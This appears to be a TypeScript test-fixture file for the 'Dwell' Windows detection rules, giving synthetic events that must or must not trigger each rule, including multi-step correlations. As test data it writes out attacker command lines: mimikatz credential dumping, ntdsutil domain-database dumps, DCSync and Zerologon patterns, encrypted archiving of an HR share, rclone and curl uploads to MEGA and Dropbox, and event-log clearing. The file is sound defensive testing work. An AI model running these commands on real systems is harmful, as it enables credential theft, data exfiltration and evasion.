// Positive and negative events for every Dwell rule, like SigmaHQ's regression data: each case lists
// events that must make the rule fire and events that must not. Correlation cases are event sequences.
import type { EventSpec } from '../../src/evtx/writer-types.js';
import {
  netlogonVulnerableAllowed,
  psScriptBlock,
  secComputerChanged,
  secDirectoryOperation,
  secLogon,
  sysmonFile,
  sysmonImageLoad,
  sysmonNetwork,
  sysmonProcess,
  type ProcessArgs,
} from '../../src/demo/events.js';
import type { DemoAccount, DemoHost } from '../../src/demo/tenants.js';

/** An event plus the tenant its file belongs to (for cross-tenant correlations). */
export interface CaseEvent {
  readonly spec: EventSpec;
  readonly tenant?: string;
}

export interface RuleCase {
  /** Events of which each, alone, must fire the rule (correlations: the whole list together). */
  readonly positive: CaseEvent[];
  /** Events that must not fire it (correlations: the whole list together). */
  readonly negative: CaseEvent[];
}

const T0 = Date.UTC(2020, 5, 1, 9, 0, 0);
const HOUR = 3_600_000;
const DAY = 24 * HOUR;

export function host(name: string, tenant = 'acme'): DemoHost {
  return { name, fqdn: `${name}.${tenant}.local`, ip: '10.1.1.10', role: 'workstation', tenantId: tenant };
}
const WS = host('WS01');
const FS = host('FS01');
const DC = host('DC01');
const DC2 = host('DC02');
const ADMIN: DemoAccount = { user: 'adm-k.sato', domain: 'ACME', sid: 'S-1-5-21-1-2-3-1500' };

function proc(
  overrides: Partial<ProcessArgs> & { image: string; commandLine: string },
  on: DemoHost = WS,
  at = T0,
): CaseEvent {
  return {
    spec: sysmonProcess(on, at, {
      parentImage: 'C:\\Windows\\System32\\cmd.exe',
      parentCommandLine: 'cmd.exe',
      user: 'ACME\\k.sato',
      ...overrides,
    }),
  };
}
const ev = (spec: EventSpec, tenant?: string): CaseEvent => ({ spec, ...(tenant ? { tenant } : {}) });

const adfindPositive = proc(
  {
    image: 'C:\\Windows\\Temp\\adfind.exe',
    commandLine: 'adfind.exe -f (objectcategory=computer)',
    originalFileName: 'AdFind.exe',
  },
  FS,
  T0,
);
const credDumpPositive = proc(
  {
    image: 'C:\\Windows\\Temp\\Pd.exe',
    commandLine: 'Pd.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    originalFileName: 'mimikatz.exe',
  },
  FS,
  T0 + 3 * HOUR,
);
const rarSharePositive = proc(
  {
    image: 'C:\\ProgramData\\r.exe',
    commandLine: 'r.exe a -hpS3cret -m5 C:\\$Recycle.Bin\\ss.rar \\\\FS01\\HR\\*',
    originalFileName: 'Rar.exe',
  },
  FS,
  T0 + 8 * HOUR,
);
const zerologon = (on: DemoHost, at: number) =>
  ev(
    secComputerChanged(on, at, {
      subjectUser: 'ANONYMOUS LOGON',
      subjectDomain: 'NT AUTHORITY',
      subjectSid: 'S-1-5-7',
      target: `${on.name}$`,
      domain: 'ACME',
      passwordLastSet: '6/1/2020 9:00:00 AM',
    }),
  );
const ntdsIfm = (on: DemoHost, at: number) =>
  proc(
    {
      image: 'C:\\Windows\\System32\\ntdsutil.exe',
      commandLine: 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
      originalFileName: 'ntdsutil.exe',
    },
    on,
    at,
  );
const dcsync = (on: DemoHost, at: number, subject: DemoAccount = ADMIN) =>
  ev(secDirectoryOperation(on, at, subject, '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}'));
const logonIn = (tenant: string, at: number, user = 'msp-j.smith') => {
  const h = host(`SRV-${tenant.toUpperCase()}`, tenant);
  return ev(
    secLogon(h, at, {
      account: { user, domain: tenant.toUpperCase(), sid: 'S-1-5-21-9-9-9-1700' },
      logonType: 3,
      ip: '10.9.9.9',
      workstation: 'JMP01',
      logonId: '0x1',
    }),
    tenant,
  );
};

/** Cases by rule name (the `name:` of each rule in rules/). */
export const CASES: Readonly<Record<string, RuleCase>> = {
  dwell_adfind_ad_recon: {
    positive: [
      adfindPositive,
      proc({ image: 'C:\\Tools\\AdFind.exe', commandLine: 'AdFind.exe -gcb -sc trustdmp' }),
    ],
    negative: [
      proc({ image: 'C:\\Tools\\AdFind.exe', commandLine: 'AdFind.exe -help' }),
      proc({ image: 'C:\\Windows\\ldp.exe', commandLine: 'ldp.exe objectcategory=computer' }),
    ],
  },
  dwell_adfind_renamed: {
    positive: [
      proc({
        image: 'C:\\Windows\\Temp\\af.exe',
        commandLine: 'af.exe -f name=*',
        originalFileName: 'AdFind.exe',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Tools\\AdFind.exe',
        commandLine: 'AdFind.exe -f name=*',
        originalFileName: 'AdFind.exe',
      }),
    ],
  },
  dwell_csvde_export_staging_dir: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\csvde.exe',
        commandLine: 'csvde -f C:\\windows\\web\\ss.log',
        originalFileName: 'csvde.exe',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\csvde.exe',
        commandLine: 'csvde -f D:\\AdminExports\\users.csv',
        originalFileName: 'csvde.exe',
      }),
    ],
  },
  dwell_ntdsutil_ifm: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\ntdsutil.exe',
        commandLine: 'ntdsutil "ac i ntds" "ifm" "create full D:\\IFM" q q',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\ntdsutil.exe',
        commandLine: 'ntdsutil "ac i ntds" "files" "info" q q',
      }),
    ],
  },
  dwell_ntdsutil_ifm_to_staging_dir: {
    positive: [ntdsIfm(DC, T0)],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\ntdsutil.exe',
        commandLine: 'ntdsutil "ac i ntds" "ifm" "create full D:\\IFM" q q',
      }),
    ],
  },
  dwell_wmiexec_vbs_drop_folder: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\cscript.exe',
        commandLine: 'cscript.exe //nologo C:\\Recovery\\t.vbs /shell FS01',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\cscript.exe',
        commandLine: 'cscript.exe //nologo C:\\Scripts\\logon.vbs',
      }),
    ],
  },
  dwell_script_dropped_in_drop_folder: {
    positive: [
      ev(
        sysmonFile(WS, T0, {
          image: 'C:\\Windows\\System32\\cmd.exe',
          target: 'C:\\Recovery\\t.vbs',
          user: 'ACME\\k.sato',
        }),
      ),
    ],
    negative: [
      ev(
        sysmonFile(WS, T0, {
          image: 'C:\\Windows\\System32\\cmd.exe',
          target: 'C:\\Users\\k.sato\\t.vbs',
          user: 'ACME\\k.sato',
        }),
      ),
    ],
  },
  dwell_wmiexec_remote_shell: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1591000000 2>&1',
        parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'cmd.exe /c echo ok',
        parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      }),
    ],
  },
  dwell_certutil_renamed: {
    positive: [
      proc({
        image: 'C:\\ProgramData\\cu.exe',
        commandLine: 'cu.exe -decode a.txt b.exe',
        originalFileName: 'CertUtil.exe',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: 'certutil.exe -hashfile a.msi SHA256',
        originalFileName: 'CertUtil.exe',
      }),
    ],
  },
  dwell_cicada_loader_sideload: {
    positive: [
      ev(
        sysmonImageLoad(WS, T0, {
          image: 'C:\\ProgramData\\Oracle\\Java\\policytool.exe',
          loaded: 'C:\\ProgramData\\Oracle\\Java\\jli.dll',
          user: 'ACME\\k.sato',
        }),
      ),
    ],
    negative: [
      ev(
        sysmonImageLoad(WS, T0, {
          image: 'C:\\Program Files\\Java\\jre\\bin\\java.exe',
          loaded: 'C:\\Program Files\\Java\\jre\\bin\\jli.dll',
          user: 'ACME\\k.sato',
        }),
      ),
    ],
  },
  dwell_sideload_host_odd_path: {
    positive: [
      proc({ image: 'C:\\ProgramData\\Oracle\\Java\\policytool.exe', commandLine: 'policytool.exe' }),
    ],
    negative: [
      proc({
        image: 'C:\\Program Files\\Java\\jre1.8.0_251\\bin\\policytool.exe',
        commandLine: 'policytool.exe',
      }),
    ],
  },
  dwell_sideload_host_network: {
    positive: [
      ev(
        sysmonNetwork(WS, T0, {
          image: 'C:\\ProgramData\\Oracle\\Java\\policytool.exe',
          user: 'ACME\\k.sato',
          destinationIp: '203.0.113.7',
          destinationPort: 443,
        }),
      ),
    ],
    negative: [
      ev(
        sysmonNetwork(WS, T0, {
          image: 'C:\\Program Files\\Java\\jre\\bin\\java.exe',
          user: 'ACME\\k.sato',
          destinationIp: '203.0.113.7',
          destinationPort: 443,
        }),
      ),
    ],
  },
  dwell_zerologon_anonymous_computer_change: {
    positive: [zerologon(DC, T0)],
    negative: [
      ev(
        secComputerChanged(DC, T0, {
          subjectUser: 'WS01$',
          subjectDomain: 'ACME',
          subjectSid: 'S-1-5-21-1-2-3-1105',
          target: 'WS01$',
          domain: 'ACME',
          passwordLastSet: '6/1/2020',
        }),
      ),
    ],
  },
  dwell_netlogon_vulnerable_channel: {
    positive: [ev({ ...netlogonVulnerableAllowed(DC, T0, 'WS01', 'ACME', '10.1.1.5'), eventId: 5827 })],
    negative: [ev(netlogonVulnerableAllowed(DC, T0, 'WS01', 'ACME', '10.1.1.5'))],
  },
  dwell_dcsync_non_machine: {
    positive: [dcsync(DC, T0)],
    negative: [
      dcsync(DC, T0, { user: 'DC02$', domain: 'ACME', sid: 'S-1-5-21-1-2-3-1001' }),
      dcsync(DC, T0, { user: 'MSOL_0a1b2c', domain: 'ACME', sid: 'S-1-5-21-1-2-3-1601' }),
    ],
  },
  dwell_credential_dump_tools: {
    positive: [
      credDumpPositive,
      proc({ image: 'C:\\Temp\\consl64.exe', commandLine: 'consl64.exe -o out.txt' }),
    ],
    negative: [proc({ image: 'C:\\Windows\\System32\\notepad.exe', commandLine: 'notepad.exe readme.txt' })],
  },
  dwell_rar_password_share_data: {
    positive: [rarSharePositive],
    negative: [
      proc({
        image: 'C:\\Program Files\\WinRAR\\WinRAR.exe',
        commandLine: '"WinRAR.exe" a -ep1 project.rar C:\\Users\\k.sato\\project',
        originalFileName: 'WinRAR.exe',
      }),
      proc({
        image: 'C:\\Program Files\\WinRAR\\Rar.exe',
        commandLine: 'Rar.exe a -hpX backup.rar D:\\Data',
        originalFileName: 'Rar.exe',
      }),
    ],
  },
  dwell_rar_renamed: {
    positive: [
      proc({ image: 'C:\\ProgramData\\r.exe', commandLine: 'r.exe a x.rar y', originalFileName: 'Rar.exe' }),
    ],
    negative: [
      proc({
        image: 'C:\\Program Files\\WinRAR\\WinRAR.exe',
        commandLine: 'WinRAR.exe',
        originalFileName: 'WinRAR.exe',
      }),
    ],
  },
  dwell_rar_in_recycle_bin: {
    positive: [
      ev(
        sysmonFile(FS, T0, {
          image: 'C:\\ProgramData\\r.exe',
          target: 'C:\\$Recycle.Bin\\ss.part1.rar',
          user: 'ACME\\k.sato',
        }),
      ),
    ],
    negative: [
      ev(
        sysmonFile(FS, T0, {
          image: 'C:\\Program Files\\WinRAR\\WinRAR.exe',
          target: 'C:\\Users\\k.sato\\Documents\\project.rar',
          user: 'ACME\\k.sato',
        }),
      ),
    ],
  },
  dwell_curl_renamed: {
    positive: [
      proc({
        image: 'C:\\Windows\\Temp\\c.exe',
        commandLine: 'c.exe -T a.rar https://example.org',
        originalFileName: 'curl.exe',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\curl.exe',
        commandLine: 'curl.exe https://example.org',
        originalFileName: 'curl.exe',
      }),
    ],
  },
  dwell_archive_upload_cloud_storage: {
    positive: [
      proc({
        image: 'C:\\Windows\\Temp\\c.exe',
        commandLine:
          'c.exe -X POST https://content.dropboxapi.com/2/files/upload -T C:\\$Recycle.Bin\\ss.part1.rar',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\curl.exe',
        commandLine: 'curl.exe -sSLo C:\\Temp\\agent.zip https://download.vendor.example/agent.zip',
      }),
    ],
  },
  dwell_rclone_mega_upload: {
    positive: [
      proc({
        image: 'C:\\ProgramData\\rc\\rclone.exe',
        commandLine: 'rclone.exe copy C:\\$Recycle.Bin\\ss.rar mega:bk --config C:\\ProgramData\\rc\\rc.conf',
      }),
      proc({
        image: 'C:\\Users\\x\\AppData\\Local\\MEGAcmd\\mega-put.exe',
        commandLine: 'mega-put.exe ss.rar /bk',
      }),
    ],
    negative: [proc({ image: 'C:\\Tools\\rclone.exe', commandLine: 'rclone.exe copy D:\\Data E:\\Backup' })],
  },
  dwell_rundll32_ssh_egress: {
    positive: [
      ev(
        sysmonNetwork(WS, T0, {
          image: 'C:\\ProgramData\\rundll32.exe',
          user: 'ACME\\k.sato',
          destinationIp: '203.0.113.7',
          destinationPort: 22,
        }),
      ),
    ],
    negative: [
      ev(
        sysmonNetwork(WS, T0, {
          image: 'C:\\Windows\\System32\\rundll32.exe',
          user: 'ACME\\k.sato',
          destinationIp: '203.0.113.7',
          destinationPort: 443,
        }),
      ),
    ],
  },
  dwell_wevtutil_clear_powershell_log: {
    positive: [
      proc({ image: 'C:\\Windows\\System32\\wevtutil.exe', commandLine: 'wevtutil cl "Windows PowerShell"' }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\wevtutil.exe',
        commandLine: 'wevtutil qe "Windows PowerShell" /c:5',
      }),
    ],
  },
  dwell_psexec_renamed: {
    positive: [
      proc({
        image: 'C:\\ProgramData\\psexe.exe',
        commandLine: 'psexe.exe \\\\FS01 -s cmd',
        originalFileName: 'psexec.c',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Tools\\PsExec64.exe',
        commandLine: 'PsExec64.exe \\\\FS01 gpupdate',
        originalFileName: 'psexec.c',
      }),
    ],
  },
  dwell_schtasks_remote_create: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\schtasks.exe',
        commandLine: 'schtasks /create /s DC01 /tn x /tr y /ru SYSTEM',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\schtasks.exe',
        commandLine: 'schtasks /create /tn Backup /tr y /sc daily',
      }),
    ],
  },
  dwell_rmm_agent_spawns_shell: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: 'powershell.exe -c whoami',
        parentImage: 'C:\\Program Files (x86)\\ScreenConnect Client (1)\\ScreenConnect.ClientService.exe',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: 'powershell.exe',
        parentImage: 'C:\\Windows\\explorer.exe',
      }),
    ],
  },
  dwell_exchange_worker_spawns_shell: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'cmd.exe /c whoami',
        parentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
        parentCommandLine: 'w3wp.exe -ap "MSExchangeECPAppPool"',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
        commandLine: 'csc.exe /noconfig',
        parentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
        parentCommandLine: 'w3wp.exe -ap "MSExchangeOWAAppPool"',
      }),
    ],
  },
  dwell_office_spawns_certutil: {
    positive: [
      proc({
        image: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: 'certutil -decode a.txt a.exe',
        parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: 'certutil -hashfile a.msi',
        parentImage: 'C:\\Windows\\explorer.exe',
      }),
    ],
  },
  dwell_vnc_server_install: {
    positive: [proc({ image: 'C:\\ProgramData\\VNC\\winvnc.exe', commandLine: 'winvnc.exe -install' })],
    negative: [
      proc({ image: 'C:\\ProgramData\\VNC\\winvnc.exe', commandLine: 'winvnc.exe -connect 10.1.1.5' }),
    ],
  },
  dwell_powersploit_injection: {
    positive: [ev(psScriptBlock(WS, T0, 'Invoke-Shellcode -Shellcode $buf -Force'))],
    negative: [ev(psScriptBlock(WS, T0, 'Get-ChildItem C:\\Windows\\Temp | Remove-Item'))],
  },
  dwell_installutil_staging_path: {
    positive: [
      proc({
        image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
        commandLine: 'InstallUtil.exe /U C:\\ProgramData\\Oracle\\Java\\ju.dll',
      }),
    ],
    negative: [
      proc({
        image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
        commandLine: 'InstallUtil.exe "C:\\Program Files\\App\\svc.exe"',
      }),
    ],
  },
  dwell_remote_logon_public_address: {
    positive: [
      ev(
        secLogon(host('JMP01', 'msp'), T0, {
          account: ADMIN,
          logonType: 10,
          ip: '203.0.113.50',
          workstation: 'DESKTOP-1',
          logonId: '0x1',
        }),
      ),
    ],
    negative: [
      ev(
        secLogon(host('JMP01', 'msp'), T0, {
          account: ADMIN,
          logonType: 10,
          ip: '10.20.250.14',
          workstation: 'LAPTOP-1',
          logonId: '0x1',
        }),
      ),
    ],
  },
  // Correlations: the whole positive list fires the correlation, the negative list does not.
  dwell_corr_zerologon_then_ntds_dump: {
    positive: [zerologon(DC, T0), ntdsIfm(DC, T0 + 2 * HOUR)],
    negative: [zerologon(DC, T0), ntdsIfm(DC2, T0 + 2 * HOUR), ntdsIfm(DC, T0 + 9 * DAY)],
  },
  dwell_corr_zerologon_then_dcsync: {
    positive: [zerologon(DC, T0), dcsync(DC, T0 + HOUR)],
    negative: [zerologon(DC, T0), dcsync(DC2, T0 + HOUR)],
  },
  dwell_corr_recon_dump_archive: {
    positive: [adfindPositive, credDumpPositive, rarSharePositive],
    negative: [
      adfindPositive,
      proc(
        { image: 'C:\\Windows\\Temp\\Pd.exe', commandLine: 'Pd.exe "sekurlsa::logonpasswords" exit' },
        FS,
        T0 + 2 * DAY,
      ),
      proc(
        {
          image: 'C:\\ProgramData\\r.exe',
          commandLine: 'r.exe a -hpS3cret ss.rar \\\\FS01\\HR\\*',
          originalFileName: 'Rar.exe',
        },
        FS,
        T0 + 4 * DAY,
      ),
    ],
  },
  dwell_corr_account_multi_tenant: {
    positive: [logonIn('msp', T0), logonIn('jp', T0 + DAY), logonIn('mx', T0 + 2 * DAY)],
    negative: [
      logonIn('msp', T0),
      logonIn('jp', T0 + DAY),
      logonIn('jp', T0 + 2 * DAY),
      logonIn('mx', T0 + 3 * DAY, 'someone-else'),
    ],
  },
};

/** Building-block rules that never emit on their own (referenced by a correlation with generate: false). */
export const BUILDING_BLOCKS: Readonly<Record<string, string>> = {
  dwell_remote_logon_named_account: 'dwell_corr_account_multi_tenant',
};
